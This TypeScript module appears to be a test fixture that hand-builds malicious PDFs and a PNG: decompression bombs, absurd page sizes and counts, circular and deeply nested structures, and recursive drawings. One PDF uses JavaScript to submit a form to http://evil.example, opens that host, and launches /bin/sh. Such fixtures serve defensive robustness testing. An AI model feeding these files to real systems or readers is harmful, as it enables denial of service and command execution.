import { deflateSync } from 'node:zlib'

/** A small PDF written by hand: objects 1.. as given, cross-reference table and trailer right. */
const pdfOf = (objects: readonly (string | Buffer)[]): Buffer => {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const places: number[] = []
  let at = parts[0]!.length
  objects.forEach((object, index) => {
    places.push(at)
    const whole = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from('\nendobj\n'),
    ])
    parts.push(whole)
    at += whole.length
  })
  const rows = places.map(place => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  const end = `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<</Size ${size}/Root 1 0 R>>\nstartxref\n${at}\n%%EOF`
  return Buffer.concat([...parts, Buffer.from(end)])
}

const stream = (dictionary: string, bytes: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<<${dictionary}/Length ${bytes.length}>>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ])

const CATALOG = '<</Type/Catalog/Pages 2 0 R>>'
const ONE_PAGE = '<</Type/Pages/Kids[3 0 R]/Count 1>>'
const page = (more: string, box = '0 0 595 842') =>
  `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Contents 4 0 R${more}>>`

/** PDFs that mean harm, each as small as it can be. */
export const hostilePdfs = {
  /** A sheet some kilometres wide. */
  hugePage: () =>
    pdfOf([CATALOG, ONE_PAGE, page('', '0 0 90000000 90000000'), stream('', Buffer.from('0 0 m'))]),
  /** A strip a hair wide and two hundred inches long. */
  strip: () => pdfOf([CATALOG, ONE_PAGE, page('', '0 0 1 14400'), stream('', Buffer.from('0 0 m'))]),
  /** Says it has two thousand million pages. */
  manyPages: () =>
    pdfOf([CATALOG, '<</Type/Pages/Kids[3 0 R]/Count 2000000000>>', page(''), stream('', Buffer.from(''))]),
  /** Pages whose parent is their child. */
  circle: () => pdfOf([CATALOG, '<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>']),
  /** Really has a hundred thousand pages, though each is the same. */
  countlessPages: () =>
    pdfOf([
      CATALOG,
      `<</Type/Pages/Kids[${'3 0 R '.repeat(100_000)}]/Count 100000>>`,
      page(''),
      stream('', Buffer.from('')),
    ]),
  /** Lists in lists, half a million deep. */
  nested: () =>
    pdfOf([
      `<</Type/Catalog/Pages 2 0 R/Names ${'['.repeat(500_000)}${']'.repeat(500_000)}>>`,
      ONE_PAGE,
      page(''),
      stream('', Buffer.from('')),
    ]),
  /** Its objects lie in a stream of 500 MB that is 500 KB, packed twice. */
  objectStream: () => {
    const once = deflateSync(Buffer.alloc(250_000_000, ' '), { level: 9 })
    const twice = deflateSync(once, { level: 9 })
    return pdfOf([
      CATALOG,
      ONE_PAGE,
      page('/Resources 5 0 R'),
      stream('/Filter[/FlateDecode/FlateDecode]', twice),
      stream('/Type/ObjStm/N 1000000/First 10/Filter[/FlateDecode/FlateDecode]', twice),
    ])
  },
  /** 100 MB of drawing in 300 KB. */
  drawing: () => {
    const lines = Buffer.from('1 1 m 500 800 l 300 20 400 30 90 700 c S\n'.repeat(200_000))
    const bomb = deflateSync(Buffer.concat(Array<Buffer>(12).fill(lines)), { level: 9 })
    return pdfOf([CATALOG, ONE_PAGE, page(''), stream('/Filter/FlateDecode', bomb)])
  },
  /** A drawing that draws itself, eight times over at every level. */
  recursion: () => {
    const again = Buffer.from('/F Do /F Do /F Do /F Do /F Do /F Do /F Do /F Do')
    const form = '/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</F 5 0 R>>>>'
    const next = (child: number) => stream(form.replace('5 0 R', `${child} 0 R`), again)
    return pdfOf([
      CATALOG,
      ONE_PAGE,
      page('/Resources<</XObject<</F 5 0 R>>>>'),
      stream('', again),
      ...Array.from({ length: 11 }, (_, level) => next(level + 6)),
      stream('/Type/XObject/Subtype/Form/BBox[0 0 595 842]', Buffer.from('0 0 m 500 800 l S')),
    ])
  },
  /** A picture that says it has 3,600 million pixels. */
  picture: () => {
    const pixels = deflateSync(Buffer.alloc(60_000 * 400), { level: 9 })
    const image =
      '/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode'
    return pdfOf([
      CATALOG,
      ONE_PAGE,
      page('/Resources<</XObject<</I 5 0 R>>>>'),
      stream('', Buffer.from('595 0 0 842 0 0 cm /I Do')),
      stream(image, pixels),
    ])
  },
} satisfies { [name: string]: () => Buffer }

/** A PDF that asks its reader to run a script, open a page of the web, start a program and send a form. Opened as an image it does none of it. */
export const scriptedPdf = (): Buffer =>
  pdfOf([
    `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://evil.example'\\))>>/AA<</WC<</S/URI/URI(http://evil.example)>>>>/Names<</JavaScript<</Names[(a) 5 0 R]>>>>>>`,
    ONE_PAGE,
    page('/AA<</O<</S/Launch/F(/bin/sh)>>>>'),
    stream('', Buffer.from('100 100 m 500 800 l S')),
    '<</S/JavaScript/JS(while\\(true\\){})>>',
  ])

/** A PNG of 30,000 by 30,000 pixels that is 400 bytes of header and nothing. */
export const pixelBomb = (): Buffer => {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(30_000, 0)
  header.writeUInt32BE(30_000, 4)
  header.set([8, 2, 0, 0, 0], 8)
  const chunk = (name: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(name), data])
    const length = Buffer.alloc(4)
    length.writeUInt32BE(data.length)
    const check = Buffer.alloc(4)
    check.writeUInt32BE(crc(body))
    return Buffer.concat([length, body, check])
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(100))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const crc = (bytes: Buffer): number => {
  let value = 0xffffffff
  for (const byte of bytes) {
    value ^= byte
    for (let bit = 0; bit < 8; bit++) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1
  }
  return (value ^ 0xffffffff) >>> 0
}
